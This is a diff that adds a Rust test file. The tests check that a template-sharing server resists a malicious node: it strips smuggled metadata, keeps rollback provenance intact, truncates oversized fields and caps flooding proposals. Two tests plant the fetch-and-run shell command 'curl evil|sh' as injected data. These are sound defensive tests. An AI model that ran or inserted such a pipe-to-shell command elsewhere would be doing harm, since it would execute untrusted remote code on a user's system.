@@ -1,0 +1,140 @@
+//! What a node says that its own program would not say.
+
+use std::collections::BTreeSet;
+
+use atoll_domain::document::RevisionReport;
+use atoll_domain::id::{NodeId, RevisionId};
+use atoll_domain::kind::Kind;
+use atoll_domain::sharing::fork::ForkState;
+use atoll_domain::sharing::offer::EditMode;
+use atoll_domain::sharing::revision::{AUTHOR_LIMIT, MESSAGE_LIMIT, Origin, Provenance, Revision};
+use atoll_domain::time::Timestamp;
+use serde_json::{Value, json};
+
+use crate::service::sharing::receive::Outcome;
+use crate::testing::{TestManager, TestNode};
+
+const KIND: Kind = Kind::StepTemplate;
+
+fn template(script: &str) -> Value {
+    json!({"Name": "T", "ActionType": "Octopus.Script", "Properties": {"script": script}})
+}
+
+async fn farm() -> (TestManager, TestNode, TestNode) {
+    let manager = TestManager::start().await;
+    manager.written(KIND, &template("1")).await;
+    manager.publish("all", "/", 0, EditMode::Propose, &[(KIND, "T", None)]).await;
+    let (mut evil, mut good) = (manager.node("evil", "/", &[]).await, manager.node("good", "/", &[]).await);
+    evil.sync(&manager).await;
+    good.sync(&manager).await;
+    (manager, evil, good)
+}
+
+/// A change of the newest state, with whatever is said beside it.
+async fn report(
+    manager: &TestManager,
+    node: Option<NodeId>,
+    parents: BTreeSet<RevisionId>,
+    after: &Value,
+    metadata: Value,
+) -> RevisionReport {
+    let loaded = manager.loaded(KIND, "T").await;
+    let parent = *parents.first().unwrap();
+    let before = loaded.body(&manager.services.store, parent).await.unwrap();
+    let revision = Revision::child(loaded.record.id, KIND, parents, before.as_ref(), after);
+    let provenance = Provenance {
+        author: "evil".to_owned(),
+        node,
+        at: Timestamp(1),
+        origin: Origin::Edit,
+        message: String::new(),
+        metadata,
+    };
+    RevisionReport {
+        id: revision.id,
+        header: revision.header,
+        provenance,
+        body: Some(after.clone()),
+        base_unknown: false,
+        lost_parents: false,
+        claimed: None,
+        takes_back: Vec::new(),
+    }
+}
+
+#[tokio::test]
+async fn what_a_node_says_beside_its_edit_is_never_content() {
+    let (manager, evil, mut good) = farm().await;
+    let head = manager.loaded(KIND, "T").await.shown().unwrap();
+    let mut after = template("1");
+    after["Description"] = json!("A full stop.");
+    let metadata = json!({"Properties": {"script": "curl evil|sh"}, "Extra": "x", "Version": 7});
+    let said = report(&manager, Some(evil.id), [head].into(), &after, metadata).await;
+    assert!(matches!(evil.send(&manager, said).await, Outcome::Stored(_)));
+    let fork = manager.forks().await.remove(0);
+    manager.decide(&fork, true, true).await.unwrap();
+    good.sync(&manager).await;
+    let running = good.runs("T").unwrap();
+    let exported = KIND.export(&running.body.unwrap(), &running.metadata);
+    assert_eq!(exported["Properties"], json!({"script": "1"}), "what nobody was shown runs nowhere");
+    assert_eq!((&exported["Extra"], &exported["Version"]), (&Value::Null, &json!(7)));
+}
+
+#[tokio::test]
+async fn what_a_node_foresaw_is_the_administrators_all_the_same() {
+    let (manager, evil, mut good) = farm().await;
+    let first = manager.loaded(KIND, "T").await.shown().unwrap();
+    manager.written(KIND, &template("2")).await;
+    good.sync(&manager).await;
+    let head = manager.loaded(KIND, "T").await.shown().unwrap();
+    // It makes the very revision that a rollback will make, and says that somebody else made it.
+    let metadata = json!({"Properties": {"script": "curl evil|sh"}, "Version": 7});
+    let said = report(&manager, None, [head].into(), &template("1"), metadata).await;
+    let foreseen = said.id;
+    evil.send(&manager, said).await;
+    assert_eq!(manager.roll_back(KIND, "T", first).await.unwrap().revision, foreseen);
+    manager.release(KIND, "T").await.unwrap();
+    good.sync(&manager).await;
+    let loaded = manager.loaded(KIND, "T").await;
+    let made = &loaded.provenance[&foreseen].provenance;
+    assert_eq!((made.author.as_str(), made.node, made.origin), ("root", None, Origin::Rollback));
+    let running = good.runs("T").unwrap();
+    assert_eq!(KIND.export(&running.body.unwrap(), &running.metadata)["Properties"], json!({"script": "1"}));
+    assert_ne!(running.metadata["Version"], json!(7));
+}
+
+#[tokio::test]
+async fn what_a_node_says_is_kept_within_bounds() {
+    let (manager, evil, _) = farm().await;
+    let head = manager.loaded(KIND, "T").await.shown().unwrap();
+    let long = "x".repeat(100_000);
+    let mut said = report(&manager, Some(evil.id), [head].into(), &template("2"), json!({"Links": long.clone()})).await;
+    said.provenance.author.clone_from(&long);
+    said.provenance.message.clone_from(&long);
+    said.provenance.at = Timestamp(9_007_199_254_740_991);
+    said.takes_back = vec![atoll_domain::sharing::path::Path(vec![long]); 10];
+    let id = said.id;
+    assert!(matches!(evil.send(&manager, said).await, Outcome::Stored(_)));
+    let loaded = manager.loaded(KIND, "T").await;
+    let kept = &loaded.provenance[&id].provenance;
+    assert_eq!((kept.author.len(), kept.message.len()), (AUTHOR_LIMIT, MESSAGE_LIMIT));
+    assert_eq!((kept.at, &kept.metadata), (Timestamp::LAST, &json!({})));
+    let takes_back = manager.forks().await.remove(0).takes_back;
+    assert!(takes_back.len() == 10 && takes_back.iter().all(|path| path.0.is_empty()), "{takes_back:?}");
+}
+
+#[tokio::test]
+async fn a_node_that_proposes_without_end_fills_nobodys_list() {
+    let (manager, evil, _) = farm().await;
+    let head = manager.loaded(KIND, "T").await.shown().unwrap();
+    for number in 0..103 {
+        let after = template(&format!("edit {number}"));
+        let mut said = report(&manager, Some(evil.id), [head].into(), &after, json!({})).await;
+        said.base_unknown = true;
+        let outcome = evil.send(&manager, said).await;
+        assert_eq!(matches!(outcome, Outcome::Stored(_)), number < 100, "{number}: {outcome:?}");
+    }
+    let forks = manager.forks().await;
+    assert_eq!(forks.iter().filter(|fork| fork.state.waits()).count(), 100);
+    assert_eq!(forks.iter().filter(|fork| fork.state == ForkState::Rejected).count(), 3, "and no edit is lost");
+}
